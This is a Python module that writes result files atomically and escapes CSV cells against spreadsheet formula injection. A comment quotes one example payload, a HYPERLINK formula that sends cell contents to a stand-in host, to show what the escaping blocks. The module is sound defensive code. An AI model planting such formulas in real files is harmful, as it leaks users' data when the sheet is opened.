"""Writing a result file the user named: all of it or nothing, and never over what is not a file.

The text goes to a fresh temporary file beside the target (`tempfile.mkstemp`:
an unpredictable name, created exclusively, so nothing planted there is
followed), reaches the disk, and is renamed over the target once complete. A
target that exists and is not a regular file (a directory, a FIFO, a device, a
symlink) is refused rather than replaced.

CSV is written by `write_csv` alone, whose cells a spreadsheet shows and never runs.
"""

from __future__ import annotations

import csv
import os
import stat
import tempfile
from pathlib import Path
from typing import Any, Iterable, Mapping, Sequence, TextIO

from engines.errors import ArgtuiError


class OutputError(ArgtuiError):
    pass


def check_target(path: Path, *, make_parents: bool = False) -> Path:
    """`path` (expanded) if `write_text_file` may write there, else an OutputError saying why:
    called before long work too, so that a bad path fails before the work, not after it."""
    path = Path(path).expanduser()
    try:
        mode = os.lstat(path).st_mode
    except FileNotFoundError:
        mode = None
    except OSError as exc:
        raise OutputError(f"{path}: cannot be written ({exc.strerror or exc})") from None
    if mode is not None and not stat.S_ISREG(mode):
        kind = "a folder" if stat.S_ISDIR(mode) else "a link" if stat.S_ISLNK(mode) else "not a regular file"
        raise OutputError(f"{path}: is {kind}; give the path of a file to write")
    if not make_parents and not path.parent.is_dir():
        raise OutputError(f"{path}: the folder {path.parent} does not exist")
    return path


def write_text_file(path: Path, text: str, *, make_parents: bool = False) -> Path:
    """Write `text` (UTF-8) to `path` atomically; `make_parents` creates missing folders."""
    path = check_target(path, make_parents=make_parents)
    parent = path.parent
    if make_parents:
        try:
            parent.mkdir(parents=True, exist_ok=True)
        except OSError as exc:
            raise OutputError(f"{parent}: cannot create the folder ({exc.strerror or exc})") from None
    try:
        handle, temporary = tempfile.mkstemp(dir=parent, prefix=f".{path.name}.", suffix=".tmp")
    except OSError as exc:
        raise OutputError(f"{path}: cannot be written ({exc.strerror or exc})") from None
    try:
        with os.fdopen(handle, "w", encoding="utf-8", newline="") as out:
            out.write(text)
            out.flush()
            os.fsync(out.fileno())  # on the disk before it takes the target's name: a crash leaves one or the other
        os.replace(temporary, path)
    except OSError as exc:
        os.unlink(temporary)
        raise OutputError(f"{path}: cannot be written ({exc.strerror or exc})") from None
    except BaseException:
        os.unlink(temporary)
        raise
    return path


# What a spreadsheet reads as the start of a formula (OWASP's CSV injection rule): a cell such as
# `=HYPERLINK("http://evil.example/?"&A1)` would run when the file is opened.
_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def csv_cell(value: Any) -> Any:
    """A value as a CSV cell a spreadsheet shows as text: text that would start a formula gets a
    leading apostrophe, and so does text that `csv_text` would otherwise take one from, so that
    every text reads back as it was; numbers and other values as they are."""
    if isinstance(value, str) and value.lstrip("'").startswith(_FORMULA_START):
        return "'" + value
    return value


def csv_text(cell: str) -> str:
    """A CSV cell as the text `csv_cell` was given: its apostrophe before a formula's start taken off."""
    return cell[1:] if cell.startswith("'") and cell.lstrip("'").startswith(_FORMULA_START) else cell


def write_csv(handle: TextIO, columns: Sequence[str], rows: Iterable[Mapping[str, Any]]) -> None:
    """A header line of `columns`, then the rows (missing columns empty), every cell through `csv_cell`.
    Lines end in CRLF, as RFC 4180 says: with another ending, a cell holding a lone CR is not quoted
    and cannot be read back."""
    writer = csv.DictWriter(handle, fieldnames=columns)
    writer.writeheader()
    writer.writerows({column: csv_cell(value) for column, value in row.items()} for row in rows)
